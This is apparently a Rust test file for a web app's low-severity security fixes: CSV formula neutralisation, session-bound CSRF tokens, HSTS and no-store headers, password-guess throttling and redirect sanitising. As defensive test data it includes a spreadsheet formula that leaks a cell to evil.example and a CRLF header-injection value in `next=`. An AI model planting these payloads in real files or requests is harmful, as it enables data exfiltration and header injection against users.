//! The low-severity findings, each as a user or an attacker meets it: formula cells in the
//! CSVs people open, a session-bound CSRF token, HSTS and no-store, a throttled current
//! password, and `next=` with control characters.

use std::io::{Read, Write};
use std::process::{Command, Stdio};

use rocket::http::{ContentType, Header, Status};

use podgate_testkit::labels::{buy, orders_for, publish};
use podgate_testkit::suppliers::{import_csv, routed_app};
use podgate_testkit::{OWNER_PASSWORD, TestApp, form_body};

/// What a spreadsheet would run: cells Python's csv reader finds starting with a formula
/// character (OWASP's list). Prints `bad=N quoted=M` (M: cells kept as text with a quote).
fn formula_cells(csv: &[u8]) -> (usize, usize) {
    let script = r#"
import csv, sys, io
bad = quoted = 0
for row in csv.reader(io.StringIO(sys.stdin.read())):
    for cell in row:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            bad += 1
        if cell.startswith("'=HYPERLINK"):
            quoted += 1
print(bad, quoted)
"#;
    let mut child = Command::new("python3")
        .args(["-c", script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(csv).unwrap();
    let mut out = String::new();
    child.stdout.take().unwrap().read_to_string(&mut out).unwrap();
    assert!(child.wait().unwrap().success());
    let mut it = out.split_whitespace().map(|n| n.parse::<usize>().unwrap());
    (it.next().unwrap(), it.next().unwrap())
}

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?leak="&A2,"click")"#;

#[rocket::async_test]
async fn formula_cells_reach_spreadsheets_as_text_and_round_trip() {
    let (app, _sb, shirts, _) = routed_app().await;
    // A product code that is a formula (a careless paste, or a hostile catalog).
    let catalog = format!(
        "pattern,match,priority,supplier,product_code\nTEE-,prefix,100,Shirt Co,\"{f}\"\nHOOD-,prefix,100,Shirt Co,\"{f}\"\n",
        f = FORMULA.replace('"', "\"\"")
    );
    let (s, body) = import_csv(&app, &catalog).await;
    assert_eq!(s, Status::SeeOther, "{body}");
    // The catalog export…
    let r = app.client.get("/catalog.csv").dispatch().await;
    let export = r.into_bytes().await.unwrap();
    assert_eq!(
        formula_cells(&export),
        (0, 2),
        "{}",
        String::from_utf8_lossy(&export)
    );
    // …imports back unchanged.
    let (s, body) = import_csv(&app, &String::from_utf8(export).unwrap()).await;
    assert_eq!(s, Status::SeeOther, "{body}");
    let codes: Vec<String> = app
        .query(|c| {
            use diesel::prelude::*;
            use podgate::db::schema::sku_rules::dsl::*;
            sku_rules
                .filter(pattern.eq_any(["TEE-", "HOOD-"]))
                .select(product_code)
                .load(c)
        })
        .await;
    assert_eq!(codes, [FORMULA, FORMULA]);
    // The batch manifest a factory opens.
    let ids = orders_for(&app, shirts, 1).await;
    buy(&app, &ids).await;
    let page = publish(&app, shirts).await;
    let batch_id: i64 = page.rsplit('/').next().unwrap().parse().unwrap();
    let b = app
        .query(move |c| podgate::db::models::batch::find(c, batch_id))
        .await;
    let zip = std::fs::read(app.services.batches.zip_path(&b)).unwrap();
    let mut z = zip::ZipArchive::new(std::io::Cursor::new(zip)).unwrap();
    let mut manifest = Vec::new();
    z.by_name("manifest.csv")
        .unwrap()
        .read_to_end(&mut manifest)
        .unwrap();
    let (bad, quoted) = formula_cells(&manifest);
    assert_eq!(bad, 0, "{}", String::from_utf8_lossy(&manifest));
    assert!(quoted >= 1, "{}", String::from_utf8_lossy(&manifest));
}

#[rocket::async_test]
async fn a_csrf_token_dies_with_its_session() {
    let app = TestApp::new().await;
    app.setup_owner().await;
    let signed_in_token = app.csrf("/account").await;
    app.post_form("/", "/logout", &[]).await;
    // Signed out: a token taken while signed in no longer works on any form.
    let r = app
        .client
        .post("/password/forgot")
        .header(ContentType::Form)
        .body(form_body(&[
            ("csrf_token", &signed_in_token),
            ("email", "owner@example.com"),
        ]))
        .dispatch()
        .await;
    assert_eq!(r.status(), Status::Forbidden);
    // The page the browser loads next carries a working one.
    let r = app
        .post_form(
            "/password/forgot",
            "/password/forgot",
            &[("email", "owner@example.com")],
        )
        .await;
    assert_eq!(r.status(), Status::SeeOther);
}

#[rocket::async_test]
async fn https_deployments_send_hsts_and_buyer_data_is_never_cached() {
    let app = TestApp::with(|f| f.merge(("public_url", "https://podgate.example.com"))).await;
    app.setup_owner().await;
    let r = app.client.get("/orders").dispatch().await;
    assert_eq!(r.status(), Status::Ok);
    assert_eq!(r.headers().get_one("Cache-Control"), Some("no-store"));
    assert_eq!(
        r.headers().get_one("Strict-Transport-Security"),
        Some("max-age=31536000")
    );
    let r = app.client.get("/static/app.css").dispatch().await;
    assert_eq!(r.status(), Status::Ok);
    assert_ne!(r.headers().get_one("Cache-Control"), Some("no-store"));
    // Plain http (the demo): no HSTS, which would lock browsers out of it.
    let plain = TestApp::new().await;
    let r = plain.client.get("/login").dispatch().await;
    assert!(r.headers().get_one("Strict-Transport-Security").is_none());
}

#[rocket::async_test]
async fn the_current_password_cannot_be_guessed_from_a_borrowed_session() {
    let app = TestApp::new().await;
    app.setup_owner().await;
    let change = |current: &'static str| {
        let app = &app;
        async move {
            let r = app
                .post_form(
                    "/account",
                    "/account/password",
                    &[
                        ("current_password", current),
                        ("new_password", "another long password"),
                        ("confirm", "another long password"),
                    ],
                )
                .await;
            (r.status(), r.into_string().await.unwrap_or_default())
        }
    };
    for _ in 0..5 {
        let (s, page) = change("a wrong guess!!").await;
        assert_eq!(s, Status::UnprocessableEntity);
        assert!(page.contains("not your current password"), "{page}");
    }
    let (s, page) = change(OWNER_PASSWORD).await;
    assert_eq!(s, Status::UnprocessableEntity);
    assert!(page.contains("Too many wrong current passwords"), "{page}");
}

#[rocket::async_test]
async fn next_with_control_characters_redirects_home() {
    let app = TestApp::new().await;
    app.setup_owner().await;
    app.post_form("/", "/logout", &[]).await;
    for next in ["/orders\r\nSet-Cookie: x=1", "/\u{7f}", "/a b", "/x\u{0}y"] {
        let token = app.csrf("/login").await;
        let r = app
            .client
            .post("/login")
            .header(ContentType::Form)
            .header(Header::new("Origin", app.config.public_url()))
            .body(form_body(&[
                ("csrf_token", &token),
                ("email", "owner@example.com"),
                ("password", OWNER_PASSWORD),
                ("next", next),
            ]))
            .dispatch()
            .await;
        assert_eq!(r.status(), Status::SeeOther, "{next:?}");
        assert_eq!(r.headers().get_one("Location"), Some("/"), "{next:?}");
        drop(r);
        app.post_form("/", "/logout", &[]).await;
    }
}
